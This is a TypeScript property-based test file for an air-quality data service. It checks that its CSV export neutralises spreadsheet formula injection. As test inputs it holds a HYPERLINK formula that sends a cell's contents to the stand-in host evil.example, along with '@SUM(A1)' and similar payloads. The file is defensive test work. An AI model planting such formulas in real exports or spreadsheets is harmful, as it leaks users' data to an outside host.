import fc from 'fast-check';
import { csvCell, toCsvWide, type WideRow } from '../../functions/core/air-quality/csv-wide';

/**
 * No spreadsheet formula in a CSV cell (OWASP, "CSV Injection"): every cell Datagate writes goes
 * through `csvCell`, which puts a leading `'` before free text beginning with `=`, `+`, `-`, `@`,
 * a tab or a carriage return, and leaves numbers as JavaScript writes them.
 */

describe('formula-safe CSV cells', () => {
  it('free text that would begin a formula gets a leading quote mark; negative readings stay numbers', () => {
    const row: WideRow = {
      datasourceId: 'ds_1',
      sourceType: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      outputFrequency: 'minute',
      time: '2026-11-28T10:00:00.000Z',
      latitude: -33.9,
      longitude: -0.12,
      metrics: { temperatureInternal: { raw: -5.45, value: -1e-7, status: 'sensor-ready', qcAssessment: '@SUM(A1)' } },
    };
    const [, line] = toCsvWide([row], { outputFrequency: 'minute', qcAssessment: true }).split('\n');
    expect(line).toBe(
      `ds_1,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",minute,2026-11-28T10:00:00.000Z,-33.9,-0.12,'@SUM(A1),-5.45,sensor-ready,-1e-7`,
    );
    for (const text of ['+1+1', '-1+1', '-', '\tcmd', '\r=1', '@x']) expect(csvCell(text)).toMatch(/^"?'/);
  });

  it('no cell, whatever its text, reads back as a formula unless it is a number', () => {
    const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((start) => fc.string().map((rest) => start + rest)),
        ),
        (text) => {
          const cell = unquote(csvCell(text));
          if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)) && cell.trim() === cell).toBe(true);
          expect(cell === text || cell === `'${text}`).toBe(true);
        },
      ),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) =>
        expect(csvCell(String(value))).toBe(String(value)),
      ),
    );
  });
});
